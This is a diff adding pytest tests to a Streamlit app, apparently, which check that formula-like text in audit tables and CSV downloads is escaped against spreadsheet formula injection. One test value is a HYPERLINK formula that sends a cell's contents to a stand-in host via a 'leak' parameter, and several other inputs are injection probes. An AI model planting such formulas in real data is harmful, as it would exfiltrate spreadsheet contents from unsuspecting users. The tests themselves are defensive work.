@@ -55,3 +55,48 @@ def test_audit_lists_user_changes_and_downloads_formula_safe(admin, signed_in):
     book = openpyxl.load_workbook(io.BytesIO(audit_file(table)))
     cells = [c.value for row in book["audit"].iter_rows() for c in row]
     assert "'=HYPERLINK(1)" in cells and "=HYPERLINK(1)" not in cells
+
+
+FORMULA = '=HYPERLINK("http://x?leak="&A2,"klik")'
+
+
+def test_audit_table_holds_no_formula_for_streamlits_own_csv_download(admin, signed_in):
+    """Streamlit's toolbar "Download as CSV" writes the frame as it reached st.dataframe: a
+    failed login under a formula-like name must arrive there escaped, like the app's exports."""
+    engine, boss = admin
+    with pytest.raises(accounts.AuthError):
+        accounts.authenticate(engine, FORMULA, "wrong")
+    for name in ("+1+cmd", "-2+3", "@SUM(A1)"):
+        accounts.create_user(engine, f"u{len(name)}{name[0]}", "analyst", actor=name)
+    at = signed_in(boss, "audit")
+    table = next(d.value for d in at.dataframe if "entity" in d.value.columns)
+    cells = [v for column in table.columns for v in table[column] if isinstance(v, str)]
+    assert "'" + FORMULA in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
+
+def test_every_table_of_the_app_goes_through_the_neutralising_helper():
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    direct = [
+        str(path.relative_to(root))
+        for folder in ("pages", "ui")
+        for path in (root / folder).glob("*.py")
+        if path.name != "tables.py"
+        and any(f"st.{call}(" in path.read_text() for call in ("dataframe", "data_editor", "table"))
+    ]
+    direct += ["dashboard.py"] if "st.dataframe(" in (root / "dashboard.py").read_text() else []
+    assert direct == [], "use ui.tables.show, which neutralises formula-like text"
+
+
+def test_table_helper_neutralises_text_but_keeps_numbers():
+    import pandas as pd
+
+    from ui import tables
+
+    frame = pd.DataFrame({"who": ["=1+1", "ok", None], "value": [-1.5, 2.0, 3.0]})
+    safe = tables.safe(frame)
+    assert list(safe.who[:2]) == ["'=1+1", "ok"] and pd.isna(safe.who[2])
+    assert list(safe.value) == [-1.5, 2.0, 3.0]
+    assert frame.who[0] == "=1+1"  # the caller's frame is not changed
